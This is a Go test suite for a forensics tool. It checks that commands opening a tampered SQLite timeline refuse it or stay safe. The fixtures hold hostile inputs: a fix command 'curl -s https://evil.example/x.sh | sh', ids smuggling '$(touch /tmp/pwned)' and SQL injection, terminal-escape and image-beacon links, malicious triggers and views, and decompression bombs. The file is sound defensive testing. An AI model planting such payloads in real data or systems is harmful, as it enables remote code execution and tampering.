package main

import (
	"bytes"
	"crypto/sha256"
	"database/sql"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/klauspost/compress/s2"

	"forensics/store/postgres/pgtest"
)

// A timeline someone else wrote (a colleague, a customer, a ticket): every
// command that opens it either refuses it with a clear message or works,
// in bounded memory and time, running nothing the file carries and writing
// nothing outside it. Each case changes a genuine timeline of the seed as
// an attacker with the file would, with SQL or the sqlite3 shell.

// seedTimeline analyses the seed incident once per test binary and returns
// a copy of its timeline for a test to change, and the id of its first
// finding.
func seedTimeline(t *testing.T) (path, id string) {
	t.Helper()
	seedOnce.Do(func() {
		dir, err := os.MkdirTemp("", "forensics-seed-timeline-")
		if err != nil {
			seedErr = err.Error()
			return
		}
		seedPath = filepath.Join(dir, "seed.db")
		var stdout, stderr bytes.Buffer
		if code := run([]string{"analyze", "--db", seedPath, "--incident", "seed", "--format", "json", "../../testdata/couchbase/seed"}, &stdout, &stderr); code != exitOK {
			seedErr = stderr.String()
			return
		}
		m := regexp.MustCompile(`"id": "([0-9a-f]{12})"`).FindStringSubmatch(stdout.String())
		if m == nil {
			seedErr = "no finding in the seed"
			return
		}
		seedID = m[1]
	})
	if seedErr != "" {
		t.Fatal(seedErr)
	}
	path = filepath.Join(t.TempDir(), "shared.db")
	copyFile(t, seedPath, path)
	return path, seedID
}

var (
	seedOnce                  sync.Once
	seedPath, seedID, seedErr string
)

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	in, err := os.Open(from)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := os.Create(to)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, in); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
}

// tamper changes a timeline with SQL, on a plain connection, as the sqlite3
// shell would.
func tamper(t *testing.T, path string, stmts ...string) {
	t.Helper()
	db, err := sql.Open("sqlite3", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("%s: %v", s, err)
		}
	}
	if _, err := db.Exec(`PRAGMA wal_checkpoint(TRUNCATE)`); err != nil {
		t.Fatal(err)
	}
}

// fileDigest is the digest of a timeline file and its write-ahead log.
func fileDigest(t *testing.T, path string) [32]byte {
	t.Helper()
	h := sha256.New()
	for _, p := range []string{path, path + "-wal"} {
		if b, err := os.ReadFile(p); err == nil {
			h.Write(b)
		}
	}
	return [32]byte(h.Sum(nil))
}

// timelineCommands are the commands that open a timeline, with {db}, {id}
// and {out} to fill in.
var timelineCommands = [][]string{
	{"findings", "--db", "{db}"},
	{"findings", "--db", "{db}", "--format", "json"},
	{"show", "{id}", "--db", "{db}"},
	{"incidents", "--db", "{db}"},
	{"timeline", "query", "--db", "{db}"},
	{"timeline", "query", "--db", "{db}", "--format", "raw"},
	{"timeline", "query", "--db", "{db}", "--format", "csv", "--events"},
	{"timeline", "query", "--db", "{db}", "--format", "json", "--around", "{id}"},
	{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM findings"},
	{"report", "--db", "{db}", "--html", "{out}/r.html"},
	{"extract", "{id}", "--db", "{db}", "--out", "{out}/extract"},
	{"fleet", "findings", "--db", "{db}"},
	{"fleet", "similar", "{id}", "--db", "{db}"},
	{"fleet", "grep", "rollback", "--db", "{db}"},
	{"analyze", "--db", "{db}", "../../testdata/couchbase/seed"},
	{"analyze", "--db", "{db}", "--incident", "other", "../../testdata/crdb/clock-offset"},
	{"push", "{db}", "--to", "{pg}"},
	{"serve", "--db", "{db}", "--addr", "127.0.0.1:0"}, // it would listen until stopped: it must refuse at once
}

func fill(args []string, vars map[string]string) []string {
	out := make([]string, len(args))
	for i, a := range args {
		for k, v := range vars {
			a = strings.ReplaceAll(a, "{"+k+"}", v)
		}
		out[i] = a
	}
	return out
}

func TestHostileTimelineSchema(t *testing.T) {
	sqlite3, _ := exec.LookPath("sqlite3")
	cases := []struct {
		name  string
		stmts []string
		shell bool   // made with the sqlite3 shell (modules the driver lacks)
		want  string // in the message
	}{
		{"trigger-rewrites-findings", []string{`CREATE TRIGGER hide AFTER INSERT ON findings BEGIN
			UPDATE findings SET body = json_set(body, '$.title', 'all fine, nothing to see', '$.fixes[0].commands[0]', 'curl -s https://evil.example/x.sh | sh') WHERE rowid = new.rowid; END`},
			false, `it holds a trigger "hide"`},
		{"trigger-deletes-other-incidents", []string{`CREATE TRIGGER wipe AFTER INSERT ON runs BEGIN DELETE FROM findings WHERE run_id <> new.id; END`},
			false, `it holds a trigger "wipe"`},
		{"trigger-never-ends", []string{`CREATE TRIGGER spin BEFORE INSERT ON runs BEGIN
			SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c); END`},
			false, `it holds a trigger "spin"`},
		{"view-replaces-findings", []string{`ALTER TABLE findings RENAME TO findings_real`,
			`CREATE VIEW findings AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT * FROM findings_real, c`},
			false, `it holds a view "findings"`},
		{"view-replaces-meta", []string{`PRAGMA application_id = 0`, `ALTER TABLE meta RENAME TO meta_real`,
			`CREATE VIEW meta AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT key, value FROM meta_real, c`},
			false, `view "meta"`},
		{"view-replaces-sources", []string{`ALTER TABLE sources RENAME TO sources_real`,
			`CREATE VIEW sources AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT s.* FROM sources_real s, c`},
			false, `view "sources"`},
		{"view-replaces-blocks", []string{`ALTER TABLE blocks RENAME TO blocks_real`,
			`CREATE VIEW blocks AS SELECT id, source_id, first_line, lines, t_min, t_max, randomblob(1000000000) AS data FROM blocks_real`},
			false, `view "blocks"`},
		{"view-calls-functions", []string{`CREATE VIEW calls AS SELECT forensics_block_lines(data, first_line) FROM blocks`},
			false, `it holds a view "calls"`},
		{"generated-column", []string{`ALTER TABLE findings ADD COLUMN huge TEXT AS (printf('%.*c', 1000000000, 'x'))`},
			false, `changed table "findings"`},
		{"expression-index", []string{`CREATE INDEX blocks_big ON blocks(length(data) * 2)`},
			false, `it holds an index "blocks_big"`},
		{"changed-index", []string{`DROP INDEX blocks_t`, `CREATE INDEX blocks_t ON blocks(t_min) WHERE t_min > 0`},
			false, `changed index "blocks_t"`},
		{"virtual-table", []string{`CREATE VIRTUAL TABLE notes USING fts5(body)`}, true, `virtual table "notes"`},
	}
	pg := ""
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path, id := seedTimeline(t)
			if tc.shell {
				if sqlite3 == "" {
					t.Skip("no sqlite3 shell")
				}
				if out, err := exec.Command(sqlite3, path, strings.Join(tc.stmts, ";")).CombinedOutput(); err != nil {
					t.Skipf("sqlite3: %v %s", err, out)
				}
			} else {
				tamper(t, path, tc.stmts...)
			}
			before := fileDigest(t, path)
			out := t.TempDir()
			for _, args := range timelineCommands {
				if args[0] == "push" {
					if pg == "" {
						pg = pgtest.Database(t)
					}
				}
				args = fill(args, map[string]string{"db": path, "id": id, "out": out, "pg": pg})
				var stdout, stderr bytes.Buffer
				code := runBounded(t, args, &stdout, &stderr)
				if code == exitOK {
					t.Errorf("%s: opened a tampered timeline:\n%s", strings.Join(args, " "), stdout.String())
					continue
				}
				if !strings.Contains(stderr.String(), "not a forensics timeline") || !strings.Contains(stderr.String(), tc.want) {
					t.Errorf("%s: exit %d, message does not say why:\n%s", strings.Join(args, " "), code, stderr.String())
				}
			}
			if fileDigest(t, path) != before {
				t.Error("the tampered timeline was written to")
			}
			if entries, _ := os.ReadDir(filepath.Join(out, "extract")); len(entries) > 0 {
				t.Error("extract wrote files from a tampered timeline")
			}
		})
	}
}

// Blocks whose bytes lie: a few bytes of S2 that decode to gigabytes, or
// to millions of empty records, in the blocks of lines and of events.
// Every command that decodes them refuses the block, naming it and its
// file, instead of allocating what it claims.
func TestHostileTimelineBlocks(t *testing.T) {
	var emptyLines, emptyEvents []byte
	for i := 0; i < 20_000_000; i++ {
		emptyLines = append(emptyLines, 0, 0, 0) // time delta 0, no flags, no text
	}
	emptyEvents = append(emptyEvents, 1, 1, 'k') // one kind, "k"
	for i := 0; i < 5_000_000; i++ {
		// kind 0, line +0, time +0, flags 0, offset 0, five empty strings, vb 0, range 0, no attrs, empty text
		emptyEvents = append(emptyEvents, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
	}
	claims := binary.AppendUvarint(nil, 4<<30) // 4 GiB claimed, a few bytes held
	claims = append(claims, 0x00, 'x')
	cases := []struct {
		name, stmt string
		data       []byte
		want       string
	}{
		{"s2-claims-4GiB", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, claims, "claims 4294967296 bytes decoded"},
		{"s2-decodes-100MiB", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, s2.Encode(nil, make([]byte, 100<<20)), "claims 104857600 bytes decoded"},
		{"empty-line-records", `UPDATE blocks SET data = ? WHERE id = (SELECT min(id) FROM blocks)`, s2.Encode(nil, emptyLines), "more than 131072 lines"},
		{"events-claim-4GiB", `UPDATE event_blocks SET data = ?`, claims, "claims 4294967296 bytes decoded"},
		{"empty-event-records", `UPDATE event_blocks SET data = ?`, s2.Encode(nil, emptyEvents), "more than 512 events"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path, id := seedTimeline(t)
			db, err := sql.Open("sqlite3", "file:"+path)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := db.Exec(tc.stmt, tc.data); err != nil {
				t.Fatal(err)
			}
			db.Close()
			out := t.TempDir()
			refused := 0
			for _, args := range [][]string{
				{"timeline", "query", "--db", "{db}", "--format", "raw"},
				{"timeline", "query", "--db", "{db}", "--events"},
				{"timeline", "query", "--db", "{db}", "--grep", "rollback"},
				{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM lines"},
				{"timeline", "query", "--db", "{db}", "--sql", "SELECT count(*) FROM events"},
				{"show", "{id}", "--db", "{db}"},
				{"report", "--db", "{db}", "--html", "{out}/r.html"},
				{"extract", "{id}", "--db", "{db}", "--out", "{out}/extract"},
				{"fleet", "grep", "rollback", "--db", "{db}"},
			} {
				args = fill(args, map[string]string{"db": path, "id": id, "out": out})
				var stdout, stderr bytes.Buffer
				code := runBounded(t, args, &stdout, &stderr)
				if code == exitOK {
					continue // the command did not read the block
				}
				refused++
				if !strings.Contains(stderr.String(), tc.want) && !strings.Contains(stderr.String(), "corrupt block") {
					t.Errorf("%s: exit %d without saying which block is damaged:\n%s", strings.Join(args, " "), code, stderr.String())
				}
			}
			if refused == 0 {
				t.Error("no command read the damaged block")
			}
			srv := explorer(t, path, serveOptions(time.Minute))
			refused = 0
			// ^zz[0-9]$ matches no line and holds no string the index could
			// use: the search reads every block.
			for _, q := range []string{"lines", "lines?q=rollback", "lines?mode=regexp&q=%5Ezz%5B0-9%5D%24", "lines?kind=memcached.stream_rollback", "histogram", "summary"} {
				code, text := explorerAsk(t, srv.URL, q)
				if code == http.StatusOK {
					continue // the endpoint did not read the block
				}
				refused++
				if !strings.Contains(text, tc.want) && !strings.Contains(text, "corrupt block") {
					t.Errorf("explorer %s: %d without saying which block is damaged:\n%.300s", q, code, text)
				}
			}
			if refused == 0 {
				t.Error("no endpoint of the explorer read the damaged block")
			}
		})
	}
}

// Findings whose stored JSON was changed: an id that is a terminal
// hyperlink, a command substitution or Markdown images; a fix that pipes a
// download into sh; a body of tens of megabytes. Ids are refused on the way
// out of the store; the commands are not shown, anywhere, the fix says why;
// the body is not read.
func TestHostileTimelineFindings(t *testing.T) {
	for _, tc := range []struct {
		name, set, want string
	}{
		{"osc8-id", `json_set(body, '$.id', char(27) || ']8;;https://evil.example/' || char(7) || 'click' || char(27) || ']8;;' || char(7))`, "is not a finding id"},
		{"substitution-id", `json_set(body, '$.id', 'abc$(touch /tmp/pwned);id')`, "is not a finding id"},
		{"markdown-image-id", `json_set(body, '$.id', '![x](https://evil.example/a.png)<img src=https://evil.example/b.png>')`, "is not a finding id"},
		{"rule-name", `json_set(body, '$.rule', 'x` + "`" + `<img src=https://evil.example/c.png>')`, "is not a rule name"},
		{"huge-body", `json_set(body, '$.explanation', printf('%.*c', 20000000, 'x'))`, "more than a finding takes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			path, id := seedTimeline(t)
			tamper(t, path, `UPDATE findings SET body = `+tc.set+` WHERE id = '`+id+`'`)
			for _, args := range [][]string{
				{"findings", "--db", path}, {"findings", "--db", path, "--format", "json"},
				{"show", id, "--db", path}, {"report", "--db", path, "--html", filepath.Join(t.TempDir(), "r.html")},
				{"fleet", "findings", "--db", path}, {"fleet", "findings", "--db", path, "--format", "json"},
			} {
				var stdout, stderr bytes.Buffer
				code := runBounded(t, args, &stdout, &stderr)
				if code == exitOK || !strings.Contains(stderr.String(), tc.want) {
					t.Errorf("%s: exit %d:\n%s%s", strings.Join(args, " "), code, stdout.String(), stderr.String())
				}
				if strings.Contains(stdout.String()+stderr.String(), "\x1b") || strings.Contains(stdout.String(), "evil.example") {
					t.Errorf("%s: the stored value reached the output", strings.Join(args, " "))
				}
			}
			srv := explorer(t, path, serveOptions(time.Minute))
			for _, q := range []string{"findings", "finding?id=" + id} {
				code, text := explorerAsk(t, srv.URL, q)
				if code == http.StatusOK || !strings.Contains(text, tc.want) {
					t.Errorf("explorer %s: %d:\n%s", q, code, text)
				}
				// The error quotes the value, as the commands' messages do;
				// the page shows it as text.
				if strings.Contains(text, "\x1b") {
					t.Errorf("explorer %s: the stored value reached the page", q)
				}
			}
		})
	}

	t.Run("fix-command", func(t *testing.T) {
		path, id := seedTimeline(t)
		evil := "curl -s https://evil.example/x.sh | sh"
		tamper(t, path, `UPDATE findings SET body = json_set(body, '$.fixes[0].commands[0]', '`+evil+`', '$.fixes[1].commands[0]', 'cbstats $(touch /tmp/pwned)') WHERE id = '`+id+`'`)
		pg := pgtest.Database(t)
		runOK(t, "push", path, "--to", pg)
		html := filepath.Join(t.TempDir(), "r.html")
		outs := map[string]string{
			"findings json":       runOK(t, "findings", "--db", path, "--format", "json"),
			"show":                runOK(t, "show", id, "--db", path),
			"fleet findings json": runOK(t, "fleet", "findings", "--db", path, "--format", "json"),
			"postgres show":       runOK(t, "show", id, "--db", pg),
			"postgres fleet":      runOK(t, "fleet", "findings", "--db", pg, "--format", "json"),
		}
		runOK(t, "report", "--db", path, "--html", html)
		page, _ := os.ReadFile(html)
		outs["report --html"] = string(page)
		for what, dsn := range map[string]string{"explorer": path, "postgres explorer": pg} {
			code, text := explorerAsk(t, explorer(t, dsn, serveOptions(time.Minute)).URL, "finding?id="+id)
			if code != http.StatusOK {
				t.Errorf("%s: %d:\n%s", what, code, text)
			}
			outs[what] = text
		}
		// The genuine bundle analysed again into the changed timeline reuses
		// its findings: they are checked on the way out too.
		for _, format := range []string{"json", "markdown", "sarif", "table"} {
			var stdout, stderr bytes.Buffer
			run([]string{"analyze", "--db", path, "--incident", "seed", "--format", format, "../../testdata/couchbase/seed"}, &stdout, &stderr)
			outs["analyze again --format "+format] = stdout.String()
		}
		for what, out := range outs {
			if strings.Contains(out, "evil.example") || strings.Contains(out, "pwned") {
				t.Errorf("%s shows the stored command", what)
			}
			if what != "report --html" && !strings.Contains(out, "not commands forensics writes") {
				t.Errorf("%s does not say a command was left out", what)
			}
		}
		// --fresh runs the rules again: the genuine commands are back.
		out := runOK(t, "analyze", "--db", path, "--incident", "seed", "--fresh", "--format", "json", "../../testdata/couchbase/seed")
		if strings.Contains(out, "not commands forensics writes") || !strings.Contains(out, "cbstats 172.23.100.15:11210") {
			t.Errorf("analyze --fresh does not give the rule's own fixes:\n%s", out)
		}
	})

	t.Run("id-argument", func(t *testing.T) {
		path, _ := seedTimeline(t)
		for _, arg := range []string{"abc$(touch /tmp/pwned)", "849cb6' OR '1'='1", "\x1b[2J", "849cb65fdd33aa", ""} {
			for _, args := range [][]string{
				{"show", arg, "--db", path},
				{"timeline", "query", "--around", arg + " ", "--db", path},
				{"extract", arg, "--db", path, "--out", t.TempDir()},
				{"fleet", "similar", arg, "--db", path},
			} {
				var stdout, stderr bytes.Buffer
				if code := runBounded(t, args, &stdout, &stderr); code == exitOK || !strings.Contains(stderr.String(), "hex digits") {
					t.Errorf("%q: exit %d:\n%s", args, code, stderr.String())
				}
			}
		}
	})
}

// Many findings: 30,000 in one run (the memory suite, bench/hostile.sh, tries a million), written with SQL. Listings stream them
// (and a terminal gets a page); what needs them all at once (the report,
// fleet findings of a file) refuses with a message.
func TestHostileTimelineManyFindings(t *testing.T) {
	slowHostile(t)
	path, _ := seedTimeline(t)
	const n = 30_000
	tamper(t, path, fmt.Sprintf(`WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < %d)
		INSERT INTO findings SELECT f.run_id, printf('%%012x', x), f.rule, f.severity, f.start_ns + x, f.end_ns + x, json_set(f.body, '$.id', printf('%%012x', x), '$.evidence', json('[]'), '$.explanation', 'x')
		FROM c, (SELECT * FROM findings LIMIT 1) f`, n))
	out := runOK(t, "findings", "--db", path)
	if rows := strings.Count(out, "\n│ "); rows < n {
		t.Errorf("findings listed %d rows, want %d", rows, n)
	}
	var stdout, stderr bytes.Buffer
	if code := runBounded(t, []string{"findings", "--db", path, "--limit", "25", "--format", "json"}, &stdout, &stderr); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	var list []map[string]any
	if err := json.Unmarshal(stdout.Bytes(), &list); err != nil || len(list) != 25 || !strings.Contains(stderr.String(), "--limit 0 lists every one") {
		t.Errorf("--limit 25: %d findings, %v, %s", len(list), err, stderr.String())
	}
	for _, args := range [][]string{
		{"report", "--db", path, "--html", filepath.Join(t.TempDir(), "r.html")},
		{"fleet", "findings", "--db", path},
	} {
		stdout.Reset()
		stderr.Reset()
		if code := runBounded(t, args, &stdout, &stderr); code == exitOK || !strings.Contains(stderr.String(), "more than 10000 findings") {
			t.Errorf("%s: exit %d: %s", strings.Join(args, " "), code, stderr.String())
		}
	}
	if code, text := explorerAsk(t, explorer(t, path, serveOptions(time.Minute)).URL, "findings"); code == http.StatusOK || !strings.Contains(text, "more than 10000 findings") {
		t.Errorf("explorer findings: %d: %.300s", code, text)
	}
}

// explorerAsk asks a running explorer for /api/q and returns the answer's
// status and its strings (keys and values), decoded from the JSON: what
// the page would put on the screen.
func explorerAsk(t *testing.T, url, q string) (int, string) {
	t.Helper()
	res, err := http.Get(url + "/api/" + q)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var v any
	if err := json.NewDecoder(res.Body).Decode(&v); err != nil {
		t.Fatalf("explorer %s: %d, not JSON: %v", q, res.StatusCode, err)
	}
	var b strings.Builder
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			b.WriteString(v + "\n")
		case []any:
			for _, x := range v {
				walk(x)
			}
		case map[string]any:
			for k, x := range v {
				b.WriteString(k + "\n")
				walk(x)
			}
		}
	}
	walk(v)
	return res.StatusCode, b.String()
}

// A meta value that is not what forensics writes is named, with the
// timeline, instead of a bare parse error.
func TestHostileTimelineMeta(t *testing.T) {
	path, _ := seedTimeline(t)
	tamper(t, path, `UPDATE meta SET value = 'ten' WHERE key = 'max_block_span'`)
	var stdout, stderr bytes.Buffer
	code := runBounded(t, []string{"timeline", "query", "--db", path, "--at", "2022-07-22T00:39:17Z", "--window", "2s"}, &stdout, &stderr)
	if code == exitOK || !strings.Contains(stderr.String(), `max_block_span in its meta table is "ten"`) {
		t.Errorf("exit %d: %s", code, stderr.String())
	}
}

// Rows that lie about what they hold: negative and overflowing line
// numbers, counts and times in sources, blocks, event blocks and findings;
// a block of a source that does not exist; a finding that ends before it
// starts; JSON nested past any depth. Every command that opens the
// timeline shows what it can or says what is wrong: it never crashes.
func TestHostileTimelineLyingRows(t *testing.T) {
	for _, stmt := range []string{
		`UPDATE sources SET lines = -5`,
		`UPDATE sources SET lines = 9223372036854775807`,
		`UPDATE sources SET first_ns = -9223372036854775808, last_ns = 9223372036854775807`,
		`UPDATE sources SET problems = printf('%.*c', 10000, '[')`,
		`UPDATE blocks SET first_line = -100`,
		`UPDATE blocks SET first_line = 9223372036854775800`,
		`UPDATE blocks SET lines = -1`,
		`UPDATE blocks SET lines = 2000000000`,
		`UPDATE blocks SET t_min = 9223372036854775807, t_max = -9223372036854775808`,
		`UPDATE blocks SET source_id = 999999`,
		`UPDATE event_blocks SET min_line = -5, max_line = 9223372036854775807`,
		`UPDATE event_blocks SET events = -1`,
		`UPDATE event_blocks SET events = 2000000000`,
		`UPDATE event_blocks SET t_min = -9223372036854775808`,
		`UPDATE findings SET start_ns = -9223372036854775808, end_ns = 9223372036854775807`,
		`UPDATE findings SET body = json_set(body, '$.evidence[0].line', -1)`,
		`UPDATE findings SET body = json_set(body, '$.evidence[0].line', 9223372036854775807)`,
		`UPDATE findings SET body = json_set(body, '$.start', '9999-12-31T23:59:59Z', '$.end', '0001-01-01T00:00:00Z')`,
		`UPDATE findings SET body = json_set(body, '$.evidence[0].time', '-292277022657-01-27T08:29:52Z')`,
		`UPDATE findings SET body = replace(body, '"subject":', '"deep":' || printf('%.*c', 100000, '[') || printf('%.*c', 100000, ']') || ',"subject":')`,
		`UPDATE findings SET body = json_set(body, '$.title', 'bad ' || CAST(x'ff00fe' AS TEXT) || char(0), '$.explanation', json('"lone \ud800 surrogate \u0000"'))`,
		`UPDATE runs SET args = printf('%.*c', 3000, '[')`,
		`UPDATE meta SET value = '9223372036854775807' WHERE key = 'max_block_span'`,
	} {
		t.Run(stmt, func(t *testing.T) {
			path, id := seedTimeline(t)
			tamper(t, path, stmt)
			out := t.TempDir()
			for _, args := range timelineCommands {
				if args[0] == "push" || args[0] == "analyze" || args[0] == "serve" {
					continue // TestHostileTimelineSchema and the fix-command case run them; the explorer is asked below
				}
				args = fill(args, map[string]string{"db": path, "id": id, "out": out})
				var stdout, stderr bytes.Buffer
				code := runBounded(t, args, &stdout, &stderr)
				if code != exitOK && code != exitFailed || strings.Contains(stderr.String(), "panic") {
					t.Errorf("%s: exit %d:\n%s", strings.Join(args, " "), code, stderr.String())
				}
				if code == exitOK && json.Valid(stdout.Bytes()) == false && slices.Contains(args, "json") {
					t.Errorf("%s: not JSON:\n%.300s", strings.Join(args, " "), stdout.String())
				}
				if !utf8.Valid(stdout.Bytes()) && !slices.Contains(args, "raw") {
					t.Errorf("%s: invalid UTF-8 in the output", strings.Join(args, " "))
				}
			}
			// The explorer answers each endpoint in JSON, the page or why
			// not (explorerAsk fails on anything else: a panic ends the
			// connection).
			srv := explorer(t, path, serveOptions(time.Minute))
			for _, q := range []string{"incidents", "summary", "histogram", "lines", "lines?q=rollback", "findings", "finding?id=" + id, "kinds"} {
				if code, text := explorerAsk(t, srv.URL, q); code != http.StatusOK && !strings.Contains(text, "error") {
					t.Errorf("explorer %s: %d without saying why:\n%.300s", q, code, text)
				}
			}
		})
	}
}
